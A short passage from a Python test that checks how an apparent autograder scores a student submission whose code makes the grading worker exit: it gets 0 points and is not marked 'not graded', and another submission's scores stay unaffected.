    """The worker exits inside the student's forward: 0 points, not "not graded" (student code ran)."""
    row = hostile["got"][("a29-exit", "ch99-ex1")]
    assert row["points"] == 0 and not row.get("not_graded") and not row["feedback"].startswith("not graded")
    assert _pts(hostile, "a29-zvictim") == [2, 3, 1]
